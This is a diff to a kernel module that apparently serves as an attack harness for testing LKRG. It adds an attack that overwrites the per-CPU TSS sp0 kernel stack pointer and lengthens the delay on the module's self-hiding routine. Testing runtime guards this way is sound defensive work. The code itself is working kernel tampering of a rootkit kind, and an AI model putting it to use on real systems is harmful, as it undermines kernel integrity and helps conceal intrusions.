@@ -1501,7 +1501,7 @@ static DECLARE_DELAYED_WORK(stay_work, stay);
 
 static int hide_module_going(struct task_struct *task, size_t field)
 {
-	schedule_delayed_work(&stay_work, 5 * HZ);
+	schedule_delayed_work(&stay_work, 15 * HZ);
 	THIS_MODULE->state = MODULE_STATE_GOING;
 	return 0;
 }
@@ -1663,6 +1663,7 @@ enum where {
 	IN_GDTR,
 	IN_GDT,
 	IN_TSS,
+	IN_SP0,
 	IN_PRESENT,
 	IN_ACTIVE,
 	IN_RECORD,
@@ -1763,6 +1764,7 @@ static const struct cpu_attack cpu_attacks[] = {
 	{ "TSS ist5", IN_TSS, 4, ~0ULL, (ulong)lkrg_attack_entry, NOT_SHOWN },
 	{ "TSS ist6", IN_TSS, 5, ~0ULL, (ulong)lkrg_attack_entry, NOT_SHOWN },
 	{ "record of lkrg", IN_RECORD, 0, 1, 0, BIT_SHOWN },
+	{ "TSS sp0", IN_SP0, 0, ~0ULL, (ulong)lkrg_attack_entry, NOT_SHOWN, true },
 };
 
 static ulong cpu_records_at;
@@ -1853,6 +1855,9 @@ static u64 read_register(const struct cpu_attack *attack, unsigned int cpu)
 	case IN_TSS:
 		value = per_cpu(cpu_tss_rw, cpu).x86_tss.ist[attack->number];
 		break;
+	case IN_SP0:
+		value = per_cpu(cpu_tss_rw, cpu).x86_tss.sp0;
+		break;
 	case IN_PRESENT:
 		return cpumask_test_cpu(cpu, &__cpu_present_mask);
 	case IN_ACTIVE:
@@ -1894,6 +1899,9 @@ static void write_register(const struct cpu_attack *attack, unsigned int cpu,
 		break;
 	case IN_TSS:
 		per_cpu(cpu_tss_rw, cpu).x86_tss.ist[attack->number] = value;
+		break;
+	case IN_SP0:
+		per_cpu(cpu_tss_rw, cpu).x86_tss.sp0 = value;
 		break;
 	case IN_PRESENT:
 		cpumask_assign_cpu(cpu, &__cpu_present_mask, value);
@@ -3974,6 +3982,7 @@ static const struct attack attacks[] = {
 	CPU("ist5", 37),
 	CPU("ist6", 38),
 	CPU("record", 39),
+	CPU("sp0", 40),
 	ATTACK("cpu-restore", restore_cpu, "the CPU as it was"),
 	ATTACK("cpu-rewrite", rewrite_cpu, "its registers get what is in them"),
 	ATTACK("gate-offset", change_gate_offset, "where an exception leads"),
